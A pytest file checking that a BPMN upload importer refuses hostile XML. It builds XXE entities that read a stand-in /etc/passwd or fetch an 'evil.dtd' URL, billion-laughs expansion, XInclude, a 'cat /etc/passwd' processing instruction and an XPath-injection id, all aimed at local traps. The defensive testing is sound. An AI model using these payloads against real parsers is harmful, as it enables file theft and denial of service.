"""Hostile uploads: every one is refused with a verdict naming the file, quickly, without resolving anything.

A coordinator uploads BPMN through a browser, so the importer sees whatever an attacker can write. Each
case here must come back as a verdict (never an exception), within a second, without growing memory,
without reading a local file and without opening a connection. A marker file with a secret line stands
for ``/etc/passwd``; a listening socket on 127.0.0.1 stands for an attacker's server. The last part
checks that mistakes SpiffWorkflow finds reach the coordinator as plain sentences naming the element.
"""

from __future__ import annotations

import os
import re
import resource
import socket
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import SpiffWorkflow
from lxml import etree

from engine.errors import PathwayInvalid
from engine.pathways import importer
from engine.pathways.forms import FormCatalog
from engine.pathways.importer import MAX_BYTES, MAX_ELEMENTS, parse_xml
from engine.pathways.lint import Verdict, check_document

REPO = Path(__file__).resolve().parents[3]
FORMS = FormCatalog(REPO / "tests" / "fixtures" / "forms")
BPMN = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"'
REFUSED_DTD = "DOCTYPE and entity declarations are not allowed"
TIME_LIMIT = 10.0  # a guard against blow-ups, not a benchmark (bench/ measures the real time)
MEMORY_LIMIT_KB = 100 * 1024  # growth of the process's peak RSS while checking one file


def definitions(
    body: str = '<bpmn:startEvent id="start"/>', prolog: str = "", executable: bool = True
) -> str:
    """A small BPMN document around ``body``, with ``prolog`` (a DOCTYPE, a comment …) before the root."""
    flag = "true" if executable else "false"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f'<bpmn:definitions {BPMN} id="defs"><bpmn:process id="hostile" isExecutable="{flag}">'
        f"{body}</bpmn:process></bpmn:definitions>"
    )


def in_encoding(text: str, encoding: str) -> bytes:
    """The document re-declared and encoded in ``encoding`` (UTF-16 and UTF-32 hide ASCII markers)."""
    declared = encoding.upper().replace("-LE", "LE").replace("-BE", "BE")
    return text.replace('encoding="UTF-8"', f'encoding="{declared}"').encode(encoding)


# --- the attacker's world: a secret file and a server that must never be contacted ----------------------


class FileTrap:
    """A named pipe standing for ``/etc/passwd``: whoever opens it to read is noticed.

    A reader's ``open()`` blocks until a writer comes; the watchdog polls with a non-blocking open for
    writing, which succeeds only once someone is reading, then records it and feeds the secret. This
    catches reads by libxml2 itself, which Python's audit hooks never see.
    """

    def __init__(self, path: Path, secret: str) -> None:
        os.mkfifo(path)
        self.path = path
        self.secret = secret
        self.opened = threading.Event()
        self._stop = threading.Event()
        self._watchdog = threading.Thread(target=self._watch, daemon=True)
        self._watchdog.start()

    def _watch(self) -> None:
        while not self._stop.is_set():
            try:
                fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # ENXIO: nobody is reading
                self._stop.wait(0.005)
                continue
            self.opened.set()
            try:
                os.write(fd, (self.secret + "\n").encode("utf-8"))
            except OSError:  # the reader gave up first
                pass
            finally:
                os.close(fd)

    def close(self) -> None:
        self._stop.set()
        self._watchdog.join()


@dataclass(frozen=True)
class Target:
    trap: FileTrap
    server: socket.socket  # listening on 127.0.0.1; nobody may connect
    url: str

    @property
    def marker(self) -> Path:
        return self.trap.path

    @property
    def secret(self) -> str:
        return self.trap.secret

    def was_contacted(self) -> bool:
        try:
            connection, _ = self.server.accept()
        except BlockingIOError:
            return False
        connection.close()
        return True


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    trap = FileTrap(tmp_path / "passwd", f"root:x:0:0:{uuid.uuid4().hex}")
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    try:
        yield Target(trap, server, f"http://127.0.0.1:{server.getsockname()[1]}/evil.dtd")
    finally:
        server.close()
        trap.close()


_WATCHING: list[tuple[int, list[tuple[str, tuple[Any, ...]]]]] = []


def _audit(event: str, args: tuple[Any, ...]) -> None:
    # Only the test's own thread: the import runs there, and a pool or server thread left by another
    # test may use a socket at any moment.
    if _WATCHING and (event == "open" or event.startswith("socket.")):
        thread, events = _WATCHING[-1]
        if threading.get_ident() == thread:
            events.append((event, args))


_AUDIT_INSTALLED: list[bool] = []


@pytest.fixture
def python_io() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    """Files opened and sockets used from Python while the test runs (an audit hook, installed once)."""
    if not _AUDIT_INSTALLED:
        sys.addaudithook(_audit)
        _AUDIT_INSTALLED.append(True)
    events: list[tuple[str, tuple[Any, ...]]] = []
    watch = (threading.get_ident(), events)
    _WATCHING.append(watch)
    try:
        yield events
    finally:
        _WATCHING.remove(watch)


def judged(data: bytes, label: str = "hostile.bpmn") -> tuple[Verdict, Any]:
    """check_document's answer, which must come quickly and without a change to peak memory."""
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    verdict, parsed = check_document(data, FORMS, label)
    elapsed = time.perf_counter() - started
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before
    assert elapsed < TIME_LIMIT, f"{label} took {elapsed:.2f} s"
    assert grown < MEMORY_LIMIT_KB, f"{label} grew peak memory by {grown} KB"
    assert isinstance(verdict, Verdict)
    return verdict, parsed


def assert_refused(verdict: Verdict, parsed: Any, message: str, label: str = "hostile.bpmn") -> None:
    assert parsed is None
    assert verdict.valid is False
    assert verdict.problems, verdict.summary()
    assert all(problem.element_id == label for problem in verdict.problems), verdict.summary()
    assert any(message in problem.message for problem in verdict.problems), verdict.summary()
    assert "Traceback" not in verdict.summary()


def assert_untouched(target: Target, verdict: Verdict, io: list[tuple[str, tuple[Any, ...]]]) -> None:
    text = verdict.summary() + repr(verdict.problems)
    assert target.secret not in text
    assert not target.trap.opened.is_set(), "the marker file was opened"
    assert not target.was_contacted(), "the attacker's server was contacted"
    assert not any(str(target.marker) in str(args) for event, args in io if event == "open")
    assert not any(event in {"socket.connect", "socket.getaddrinfo"} for event, _ in io), io


# --- DOCTYPE, entities and external references ----------------------------------------------------------


def xxe_in_text(t: Target) -> str:
    body = '<bpmn:startEvent id="start"><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:startEvent>'
    return definitions(body, f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file://{t.marker}">]>')


def xxe_in_attribute(t: Target) -> str:
    body = '<bpmn:startEvent id="start" name="&xxe;"/>'
    return definitions(body, f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file://{t.marker}">]>')


def xxe_over_http(t: Target) -> str:
    body = '<bpmn:startEvent id="start" name="&xxe;"/>'
    return definitions(body, f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "{t.url}">]>')


def billion_laughs(t: Target) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    prolog = f"<!DOCTYPE bpmn:definitions [{''.join(levels)}]>"
    return definitions('<bpmn:startEvent id="start" name="&lol9;"/>', prolog)


def external_dtd(t: Target) -> str:
    return definitions(prolog=f'<!DOCTYPE bpmn:definitions SYSTEM "{t.url}">')


def parameter_entities(t: Target) -> str:
    prolog = (
        f'<!DOCTYPE bpmn:definitions [<!ENTITY % file SYSTEM "file://{t.marker}">'
        f'<!ENTITY % remote SYSTEM "{t.url}">%remote;%file;]>'
    )
    return definitions(prolog=prolog)


def bare_doctype(t: Target) -> str:
    return definitions(prolog="<!DOCTYPE bpmn:definitions>")


def doctype_after_long_comment(t: Target) -> str:
    return definitions(prolog=f'<!--{"x" * 5000}--><!DOCTYPE bpmn:definitions SYSTEM "{t.url}">')


HOSTILE_DTDS: dict[str, Callable[[Target], str]] = {
    "external entity in text": xxe_in_text,
    "external entity in attribute": xxe_in_attribute,
    "external entity over http": xxe_over_http,
    "billion laughs": billion_laughs,
    "external DTD": external_dtd,
    "parameter entities": parameter_entities,
    "bare DOCTYPE": bare_doctype,
    "DOCTYPE after a long comment": doctype_after_long_comment,
}


@pytest.mark.parametrize("build", HOSTILE_DTDS.values(), ids=HOSTILE_DTDS.keys())
def test_doctype_and_entities_are_refused(
    build: Callable[[Target], str], target: Target, python_io: list[tuple[str, tuple[Any, ...]]]
) -> None:
    verdict, parsed = judged(build(target).encode("utf-8"))
    assert_refused(verdict, parsed, REFUSED_DTD)
    assert_untouched(target, verdict, python_io)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
@pytest.mark.parametrize(
    "build", [xxe_in_attribute, billion_laughs, parameter_entities], ids=lambda f: f.__name__
)
def test_wide_encodings_do_not_hide_a_doctype(
    build: Callable[[Target], str],
    encoding: str,
    target: Target,
    python_io: list[tuple[str, tuple[Any, ...]]],
) -> None:
    data = in_encoding(build(target), encoding)
    assert b"<!DOCTYPE" not in data.upper()  # a plain byte search would miss it
    verdict, parsed = judged(data)
    assert_refused(verdict, parsed, REFUSED_DTD)
    assert_untouched(target, verdict, python_io)


def test_a_late_doctype_in_utf16_is_refused_after_parsing(
    target: Target, python_io: list[tuple[str, tuple[Any, ...]]]
) -> None:
    data = in_encoding(doctype_after_long_comment(target), "utf-16")
    assert data.find("<!DOCTYPE".encode("utf-16-le")) > 4096
    verdict, parsed = judged(data)
    assert_refused(verdict, parsed, REFUSED_DTD)
    assert_untouched(target, verdict, python_io)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_a_harmless_diagram_in_a_wide_encoding_is_asked_for_in_utf8(encoding: str) -> None:
    """Deployed diagrams are stored as UTF-8 text: a UTF-16 file gets a verdict here, not a crash there."""
    verdict, parsed = judged(in_encoding(definitions(), encoding))
    assert_refused(verdict, parsed, "the file is not UTF-8")


def test_the_long_comment_really_pushes_the_doctype_past_the_first_4_kb(target: Target) -> None:
    data = doctype_after_long_comment(target).encode("utf-8")
    assert data.find(b"<!DOCTYPE") > 4096
    assert b"<!ENTITY" not in data


def test_parse_xml_raises_pathway_invalid_naming_the_file(target: Target) -> None:
    with pytest.raises(PathwayInvalid) as raised:
        parse_xml(xxe_in_text(target).encode("utf-8"), "intake.bpmn")
    assert raised.value.code == "pathway_invalid"
    assert [(p.element_id, p.message) for p in raised.value.problems] == [("intake.bpmn", REFUSED_DTD)]
    assert target.secret not in str(raised.value)


# --- XInclude and processing instructions ----------------------------------------------------------------


def xinclude(t: Target) -> str:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{t.marker}" parse="text"/>'
    )
    return definitions(
        f'<bpmn:startEvent id="start"><bpmn:documentation>{include}</bpmn:documentation></bpmn:startEvent>'
    )


class XIncludeCalled(AssertionError):
    pass


def test_xinclude_is_refused_and_never_processed(
    target: Target, python_io: list[tuple[str, tuple[Any, ...]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    def spy(*args: Any, **kwargs: Any) -> Any:
        raise XIncludeCalled("lxml.etree.XInclude was called")

    monkeypatch.setattr(etree, "XInclude", spy)
    verdict, parsed = judged(xinclude(target).encode("utf-8"))
    assert_refused(verdict, parsed, "XInclude elements are not allowed")
    assert_untouched(target, verdict, python_io)


def test_the_hardened_parser_leaves_an_xinclude_unexpanded(target: Target) -> None:
    """Even before the refusal, parsing alone pulls nothing in."""
    root = etree.fromstring(xinclude(target).encode("utf-8"), importer._hardened_parser())
    assert target.secret not in etree.tostring(root, encoding="unicode")
    assert not target.trap.opened.is_set()


def test_nothing_on_the_import_path_calls_xinclude() -> None:
    """lxml's ``xinclude()`` is a compiled method no spy can wrap: no code we run may name it."""
    calls = re.compile(r"\.xinclude\s*\(|XInclude\s*\(")
    spiff = Path(SpiffWorkflow.__file__).parent
    sources = [*sorted((REPO / "engine").rglob("*.py")), *sorted(spiff.rglob("*.py"))]
    assert len(sources) > 50
    offenders = [str(p) for p in sources if calls.search(p.read_text(encoding="utf-8", errors="replace"))]
    assert offenders == []


def test_processing_instructions_are_dropped_not_run(
    target: Target, python_io: list[tuple[str, tuple[Any, ...]]]
) -> None:
    stylesheet = f'<?xml-stylesheet type="text/xsl" href="{target.url}"?>'
    text = definitions('<?evil cmd="cat /etc/passwd"?><bpmn:startEvent id="start"/>', stylesheet)
    data = text.encode("utf-8")
    root = parse_xml(data, "pi.bpmn")
    assert not any(isinstance(node, etree._ProcessingInstruction) for node in root.iter())
    assert root.getprevious() is None
    verdict, _ = judged(data, "pi.bpmn")
    assert isinstance(verdict.valid, bool)
    assert "Traceback" not in verdict.summary()
    assert_untouched(target, verdict, python_io)


# --- size, element count and depth ----------------------------------------------------------------------


def test_a_file_over_5_mb_is_refused_before_parsing() -> None:
    padding = "x" * (MAX_BYTES + 1)
    data = definitions(f"<bpmn:documentation>{padding}</bpmn:documentation>").encode("utf-8")
    verdict, parsed = judged(data)
    assert_refused(verdict, parsed, f"the limit is {MAX_BYTES}")


def test_a_file_of_exactly_5_mb_is_not_refused_for_its_size() -> None:
    shell = definitions("<bpmn:documentation></bpmn:documentation>").encode("utf-8")
    filler = b"x" * (MAX_BYTES - len(shell))
    data = shell.replace(b"<bpmn:documentation>", b"<bpmn:documentation>" + filler)
    assert len(data) == MAX_BYTES
    verdict, _ = judged(data)
    assert not any("limit is" in problem.message for problem in verdict.problems), verdict.summary()


def test_more_than_50000_elements_are_refused() -> None:
    data = definitions('<bpmn:startEvent id="start"/>' + "<bpmn:task/>" * MAX_ELEMENTS).encode("utf-8")
    assert len(data) < MAX_BYTES  # refused for the count, not the size
    verdict, parsed = judged(data)
    assert_refused(verdict, parsed, f"the limit is {MAX_ELEMENTS}")


@pytest.mark.parametrize("depth", [257, 100_000])
def test_deep_nesting_is_a_verdict_not_a_crash(depth: int) -> None:
    """libxml2 without huge_tree stops at 256 levels; the importer reports it in plain words."""
    nested = "<bpmn:documentation>" * depth + "</bpmn:documentation>" * depth
    verdict, parsed = judged(definitions(nested).encode("utf-8"))
    assert_refused(verdict, parsed, "nested more than 256 levels deep")


def test_ordinary_nesting_is_accepted() -> None:
    root = parse_xml(("<a>" * 256 + "</a>" * 256).encode("utf-8"))
    assert sum(1 for _ in root.iter()) == 256


# --- things that are not BPMN pathways at all -----------------------------------------------------------

NOT_PATHWAYS = {
    "not XML": (b"hello, world", "not well-formed XML"),
    "JSON": (b'{"process": "crisis_centre_adult"}', "not well-formed XML"),
    "binary": (bytes(range(256)) * 4, "not well-formed XML"),
    "truncated": (definitions().encode("utf-8")[:-20], "not well-formed XML"),
    "empty file": (b"", "the file is empty"),
    "only whitespace": (b" \n\t\n", "the file is empty"),
    "HTML root": (b"<html><body><p>hi</p></body></html>", "the root element is not bpmn:definitions"),
    "definitions outside the BPMN namespace": (
        b'<definitions xmlns="http://example.com/not-bpmn"/>',
        "the root element is not bpmn:definitions",
    ),
}


@pytest.mark.parametrize(("data", "message"), NOT_PATHWAYS.values(), ids=NOT_PATHWAYS.keys())
def test_what_is_not_a_pathway_gets_a_plain_verdict(data: bytes, message: str) -> None:
    verdict, parsed = judged(data)
    assert_refused(verdict, parsed, message)
    assert verdict.executable is False


def test_a_diagram_with_no_executable_process_names_the_process() -> None:
    verdict, parsed = judged(definitions(executable=False).encode("utf-8"))
    assert parsed is None
    assert verdict.executable is False
    assert [(p.element_id, p.message) for p in verdict.problems] == [
        ("hostile", 'not executable: no process has isExecutable="true"')
    ]
    assert verdict.summary().startswith("hostile.bpmn: not executable")


def test_a_small_safe_diagram_still_passes() -> None:
    """The guards above refuse what is hostile, not what is ordinary."""
    body = (
        '<bpmn:startEvent id="start"/><bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>'
        '<bpmn:endEvent id="end"/>'
    )
    verdict, parsed = judged(definitions(body).encode("utf-8"))
    assert verdict.valid, verdict.summary()
    assert parsed is not None


@pytest.mark.parametrize("process_id", ["crisis'centre", 'crisis"centre', "x') or ('1'='1", "]]>"])
def test_quotes_in_ids_are_data_not_query_syntax(process_id: str) -> None:
    """Ids go into XPath as variables; one with quotes once crashed the importer with a SyntaxError."""
    quoted = process_id.replace("&", "&amp;").replace('"', "&quot;").replace(">", "&gt;")
    body = (
        '<bpmn:startEvent id="start"/><bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>'
        '<bpmn:endEvent id="end"/>'
    )
    data = definitions(body).replace('id="hostile"', f'id="{quoted}"').encode("utf-8")
    verdict, parsed = judged(data)
    assert verdict.valid, verdict.summary()
    assert verdict.process_id == process_id
    assert parsed is not None


# --- mistakes in a diagram, in words a coordinator can act on -------------------------------------------

MINI = (REPO / "tests" / "fixtures" / "mini.bpmn").read_text(encoding="utf-8")
DIAGRAM_MISTAKES = {
    "two flows leave a task": (
        ('<bpmn:sequenceFlow id="f2"', '<bpmn:sequenceFlow id="f2b" sourceRef="assess" targetRef="final"/>'
         '<bpmn:sequenceFlow id="f2"'),
        "assess", "more than one flow leaves this task",
    ),
    "no start event": (('<bpmn:startEvent id="start"/>', ""), "mini", "the process has no start event"),
    "a timer without a time": (
        ("<bpmn:timeDuration>P1M</bpmn:timeDuration>", ""), "wait_month", "the timer has no date, duration",
    ),
    "an undefined signal": (
        ('signalRef="sig_risk"', 'signalRef="sig_nowhere"'), "risk_changed", "names a signal or message",
    ),
    "a flow to nowhere": (('targetRef="score"', 'targetRef="nowhere"'), "assess", "leads to an element"),
    "a boundary event on nothing": (
        ('attachedToRef="stay"', 'attachedToRef="nowhere"'), "cap", "attached to no activity",
    ),
    "a role that does no casework": (
        ('value="social_worker"', 'value="admin"'), "assess", "user task 'admin' is not a casework role",
    ),
    "a timer notifying nobody": (
        ('attachedToRef="stay">', 'attachedToRef="stay"><bpmn:extensionElements><spiffworkflow:properties>'
         '<spiffworkflow:property name="notify" value="manager, Директор"/></spiffworkflow:properties>'
         '</bpmn:extensionElements>'),
        "cap", "notify names no casework role: Директор",
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("edit", "element_id", "message"), DIAGRAM_MISTAKES.values(), ids=DIAGRAM_MISTAKES.keys()
)
def test_mistakes_become_plain_problems(edit: tuple[str, str], element_id: str, message: str) -> None:
    data = MINI.replace(edit[0], edit[1], 1).encode("utf-8")
    verdict, parsed = check_document(data, FORMS, "mini.bpmn")
    assert parsed is None
    assert [(p.element_id, message in p.message) for p in verdict.problems] == [(element_id, True)], (
        verdict.summary()
    )


def test_a_chain_too_long_for_the_library_is_a_verdict() -> None:
    """SpiffWorkflow parses a chain of tasks recursively; a very long one must not escape as an error."""
    steps = 1500
    chain = "".join(
        f'<bpmn:scriptTask id="t{i}"><bpmn:script>x = 1</bpmn:script></bpmn:scriptTask>'
        f'<bpmn:sequenceFlow id="f{i}" sourceRef="t{i}" targetRef="t{i + 1}"/>'
        for i in range(steps)
    )
    body = (
        f'<bpmn:startEvent id="start"/><bpmn:sequenceFlow id="f" sourceRef="start" targetRef="t0"/>'
        f'{chain}<bpmn:endEvent id="t{steps}"/>'
    )
    verdict, parsed = judged(definitions(body).encode("utf-8"))
    assert parsed is None
    assert any("too many steps follow one another" in p.message for p in verdict.problems), verdict.summary()
